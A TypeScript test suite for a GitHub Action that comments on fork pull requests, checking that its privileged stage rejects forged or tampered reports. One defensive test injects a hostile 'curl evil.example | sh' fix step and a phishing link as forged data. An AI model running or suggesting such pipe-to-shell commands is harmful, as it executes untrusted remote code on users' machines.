import { describe, expect } from 'vitest';
import { zip } from '../world/files/zip.js';
import { finished, fromFork } from '../world/github/events.js';
import { it } from '../world/github/fixture.js';
import { type LoopbackGitHub, WORKFLOW_TOKEN } from '../world/github/loopback.js';
import type { PullRequestState } from '../world/github/state.js';
import { runAction, said } from './runner.js';
import { COMPILE_LOG } from './samples.js';

const RUN = 99;
const HEAD = 'b'.repeat(40);

function allow(github: LoopbackGitHub, permissions: Record<string, 'read' | 'write'>): void {
  github.state.tokens.set(WORKFLOW_TOKEN.value, { ...WORKFLOW_TOKEN, permissions });
}

/** The first workflow: the stranger's code runs, the token may only read, the report is a file. */
async function stageOne(github: LoopbackGitHub): Promise<string> {
  allow(github, { contents: 'read' });
  const result = await runAction({
    github,
    event: fromFork(7),
    env: { GITHUB_RUN_ID: String(RUN) },
    inputs: { logs: 'build.log', comment: 'false', json: 'report.json' },
    files: { 'build.log': COMPILE_LOG },
  });
  expect(result.summary).toContain('after it was moved away');
  return result.files['report.json'] ?? '';
}

/** The second workflow, on the artifact that the first has left. */
function stageTwo(github: LoopbackGitHub, report: string, over: Parameters<typeof finished>[0] = {}) {
  allow(github, { contents: 'read', actions: 'read', 'pull-requests': 'write' });
  github.state.runs.add(RUN);
  github.state.artifacts.length = 0;
  github.state.artifacts.push({
    id: 5,
    run: RUN,
    name: 'whydunit-test',
    content: zip([{ name: 'whydunit-report.json', content: report }]),
  });
  return runAction({
    github,
    event: finished({ id: RUN, ...over }),
    inputs: { mode: 'merge', 'run-id': String(RUN), 'fail-on': 'never' },
  });
}

const opened = (github: LoopbackGitHub) =>
  github.state.addPullRequest(7, { owner: 'mona', branch: 'change', sha: HEAD });

describe('the pair of workflows for forks', () => {
  it('comments with what the first has found, in words of our own', async ({ github }) => {
    opened(github);
    const result = await stageTwo(github, await stageOne(github));
    expect(result.exitCode).toBe(0);
    expect(github.state.comments).toEqual([expect.objectContaining({ issue: 7 })]);
    const [{ body } = { body: '' }] = github.state.comments;
    expect(body).toContain('after it was moved away');
    expect(body).toContain('value borrowed here after move');
    expect(body).toContain(`${HEAD.slice(0, 7)}`);
    expect(github.seen.length).toBeLessThanOrEqual(25);
  });

  it('[S10] writes to the pull request that GitHub names, whatever the report says', async ({ github }) => {
    opened(github);
    github.state.addPullRequest(8);
    const report = JSON.parse(await stageOne(github)) as { run: { pullRequest: number } };
    report.run.pullRequest = 8;
    await stageTwo(github, JSON.stringify(report));
    expect(github.state.comments.map(({ issue }) => issue)).toEqual([7]);
  });

  it.for<[string, Record<string, unknown>, string]>([
    ['another commit', { sha: 'e'.repeat(40) }, 'it is a report of commit eeeeeee'],
    ['another run', { runId: 1 }, 'it is a report of run 1, not of run 99'],
    ['another repository', { repository: 'mona/app' }, 'it is a report of mona/app'],
  ])(
    '[S10] takes nothing from a report that claims %s, and is not green over it',
    async ([, claim, words], { github }) => {
      opened(github);
      const report = JSON.parse(await stageOne(github)) as { run: Record<string, unknown> };
      Object.assign(report.run, claim);
      const result = await stageTwo(github, JSON.stringify(report));
      expect(said(result, 'warning').join('\n')).toContain(words);
      expect(result.outputs['status']).toBe('unknown');
      expect(github.state.comments.map(({ body }) => body).join('\n')).not.toContain('moved away');
    },
  );

  it('[S10] says a forged severity, cause and text of a known pattern as our catalogue says it', async ({ github }) => {
    opened(github);
    const report = JSON.parse(await stageOne(github)) as { diagnoses: Record<string, unknown>[] };
    Object.assign(report.diagnoses[0] ?? {}, {
      severity: 'P3',
      title: 'Nothing to see @everyone',
      rootCause: '[free money](https://evil.example)',
      fix: [{ text: 'Run this', run: 'curl evil.example | sh' }],
    });
    await stageTwo(github, JSON.stringify(report));
    const text = github.state.comments.map(({ body }) => body).join('\n');
    expect(text).toContain('after it was moved away');
    for (const forged of ['evil.example', '@everyone', 'free money']) expect(text).not.toContain(forged);
  });

  it.for<[string, Partial<PullRequestState>, Parameters<typeof finished>[0]]>([
    ['it was closed', { state: 'closed' }, {}],
    ['it has moved on to another commit', { sha: 'f'.repeat(40) }, {}],
    ['the run was none of a pull request', {}, { event: 'push' }],
    ['its fork is gone', {}, { fork: null }],
  ])('[S10] writes nowhere when %s', async ([, state, event], { github }) => {
    Object.assign(opened(github), state);
    const report = await stageOne(github);
    const result = await stageTwo(github, report, event);
    expect(result.exitCode).toBe(0);
    expect(github.state.comments).toEqual([]);
    expect(result.summary).toContain('after it was moved away');
  });

  it.for([
    ['no JSON', 'x'],
    ['an empty file', ''],
    ['a report of the future', '{"schema": 2}'],
  ] as const)('blocks over an artifact that holds %s', async ([, text], { github }) => {
    opened(github);
    allow(github, { actions: 'read', 'pull-requests': 'write' });
    github.state.runs.add(RUN);
    github.state.artifacts.push({
      id: 5,
      run: RUN,
      name: 'whydunit-test',
      content: zip([{ name: 'r.json', content: text }]),
    });
    const result = await runAction({ github, event: finished({ id: RUN }), inputs: { mode: 'merge' } });
    expect([result.exitCode, result.outputs['verdict']]).toEqual([1, 'blocked']);
  });
});
